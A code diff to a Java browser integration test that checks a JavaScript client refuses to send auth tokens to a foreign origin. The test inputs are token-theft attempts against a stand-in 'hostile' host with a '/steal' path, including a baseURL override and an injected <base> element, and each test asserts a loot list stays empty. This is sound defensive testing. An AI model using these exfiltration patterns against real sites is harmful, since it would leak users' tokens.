@@ -159,13 +159,13 @@ class OtherOriginBrowserIT {
     @ParameterizedTest
     @ValueSource(strings = {"hostile + '/steal'", "hostile.replace('http:', '') + '/steal'"})
     void clientRefusesToSendTokensToAnAddressElsewhere(String address) {
-        assertEquals("foreign_origin", codeOf("client.http.get(" + address + ")"));
+        assertEquals("foreign_origin", codeOf("latchkey.createAxios(client).get(" + address + ")"));
         assertEquals(List.of(), LOOT);
     }
 
     @Test
     void clientRefusesToSendTokensToAnotherBase() {
-        assertEquals("foreign_origin", codeOf("client.http.get('/steal', { baseURL: hostile })"));
+        assertEquals("foreign_origin", codeOf("latchkey.createAxios(client).get('/steal', { baseURL: hostile })"));
         assertEquals(List.of(), LOOT);
     }
 
@@ -177,7 +177,7 @@ class OtherOriginBrowserIT {
                 "not_found",
                 tab.run("const base = document.createElement('base'); base.href = '" + hostile + "/';"
                         + " document.head.append(base);"
-                        + "return await client.http.get('/steal', { baseURL: " + base + " })"
+                        + "return await latchkey.createAxios(client).get('/steal', { baseURL: " + base + " })"
                         + ".then(() => 'sent', (error) => error.code);"));
         assertEquals(List.of(), LOOT);
     }
